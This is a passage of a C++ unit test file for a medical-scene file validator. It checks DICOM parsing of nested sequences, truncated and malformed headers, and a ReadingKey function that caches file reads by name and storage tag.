  for (std::string_view syntax : {DicomWriter::kExplicitLittle, DicomWriter::kImplicitLittle}) {
    DicomWriter w(syntax);
    w.Us(0x0028, 0x0002, 1);
    w.Header(0x0088, 0x0200, "SQ", 0xffffffffu).Header(0xfffe, 0xe000, "", 0xffffffffu);
    w.Us(0x0028, 0x0010, 65535).Us(0x0028, 0x0011, 65535).Us(0x0028, 0x0100, 64);
    w.Header(0xfffe, 0xe00d, "", 0).Header(0xfffe, 0xe000, "", 4).Append("abcd").Header(0xfffe, 0xe0dd, "", 0);
    w.Header(0x0088, 0x0201, "SQ", 8).Append("\xfe\xff\x00\xe0\0\0\0\0"s);
    w.Us(0x0028, 0x0010, 4).Us(0x0028, 0x0011, 4).Us(0x0028, 0x0100, 8).Header(0x7fe0, 0x0010, "OB", 16);
    Checked r = Check("a.dcm", "", w.bytes() + std::string(16, '\0'));
    ExpectClean(r, syntax);
    Policy p = Policy::Default();
    p.limits.max_image_bytes = 16;
    ExpectClean(Check("a.dcm", "", w.bytes() + std::string(16, '\0'), UINT64_MAX, p), syntax);
  }
}

TEST(DicomTest, EncapsulatedIconInsideASequenceIsSteppedOver) {
  DicomWriter w(DicomWriter::kJpegBaseline);
  w.Header(0x0088, 0x0200, "SQ", 0xffffffffu).Header(0xfffe, 0xe000, "", 0xffffffffu);
  w.Us(0x0028, 0x0010, 60000).Header(0x7fe0, 0x0010, "OB", 0xffffffffu);
  w.Header(0xfffe, 0xe000, "", 0).Header(0xfffe, 0xe000, "", 2).Append("ab").Header(0xfffe, 0xe0dd, "", 0);
  w.Header(0xfffe, 0xe00d, "", 0).Header(0xfffe, 0xe0dd, "", 0);
  w.Us(0x0028, 0x0010, 4).Us(0x0028, 0x0011, 4).Us(0x0028, 0x0100, 8);
  w.Header(0x7fe0, 0x0010, "OB", 0xffffffffu).Header(0xfffe, 0xe000, "", 0);
  ExpectClean(Check("a.dcm", "", w.bytes()), "icon");
  // An explicit-VR element other than SQ, UN or Pixel Data cannot have an
  // undefined length.
  DicomWriter bad(DicomWriter::kExplicitLittle);
  bad.Header(0x0010, 0x0010, "OB", 0xffffffffu).Append(std::string(8, '\0'));
  EXPECT_TRUE(Check("a.dcm", "", bad.bytes()).Has("data.header-malformed"));
}

TEST(DicomTest, ShortPrefixIsIncompleteNotMalformed) {
  std::string d = Dicom({});
  for (size_t n = 132; n < d.size(); ++n) {
    Checked r = Check("a.dcm", "", d.substr(0, n), d.size());
    EXPECT_EQ(r.Errors(), 0u) << n << ":\n" << r.Describe();
  }
}

// The pipeline reads a file once per ReadingKey (plain_scene_run.cc): the key
// must tell apart every pair of references this layer judges differently.
TEST(ReadingKeyTest, SeparatesWhatTheChecksReadAndNothingElse) {
  EXPECT_EQ(ReadingKey("a/x.csv", "TableStorage"), ReadingKey("b/Y.CSV", "TableStorage"));
  EXPECT_NE(ReadingKey("x.csv", "TableStorage"), ReadingKey("x.tsv", "TableStorage"));
  EXPECT_NE(ReadingKey("x.csv", "TableStorage"), ReadingKey("x.csv", "ColorTableStorage"));
  EXPECT_NE(ReadingKey("x.csv", "TableStorage"), ReadingKey("x.csv", ""));
  EXPECT_NE(ReadingKey("x.seg.nrrd", "SegmentationStorage"), ReadingKey("x.nrrd", "SegmentationStorage"));
  // Every tag the layer names keeps its own key.
  for (const char* tag : {"VolumeArchetypeStorage", "TransformStorage", "TextStorage", "MarkupsFiducialStorage",
                          "ShaderPropertyStorage", "ProceduralColorStorage", "SegmentationStorage"}) {
    EXPECT_NE(ReadingKey("x.txt", tag), ReadingKey("x.txt", "OtherStorage")) << tag;
  }
  // Other tags matter only through the words the layer looks for.
  EXPECT_EQ(ReadingKey("x.json", "FooMarkupsStorage"), ReadingKey("x.json", "BarMarkupsStorage"));
  EXPECT_EQ(ReadingKey("x.json", "FooStorage"), ReadingKey("x.json", "BarStorage"));
  EXPECT_NE(ReadingKey("x.json", "FooMarkupsStorage"), ReadingKey("x.json", "FooStorage"));
  EXPECT_NE(ReadingKey("x.txt", "FooAnnotationStorage"), ReadingKey("x.txt", "FooStorage"));
  // An Analyze/NIfTI pair's image is named after the header.
  EXPECT_NE(ReadingKey("a.hdr", "VolumeArchetypeStorage"), ReadingKey("b.hdr", "VolumeArchetypeStorage"));
  EXPECT_EQ(ReadingKey("d/a.hdr", "VolumeArchetypeStorage"), ReadingKey("a.hdr", "VolumeArchetypeStorage"));
}

}  // namespace
}  // namespace mrmlguard::internal::testing
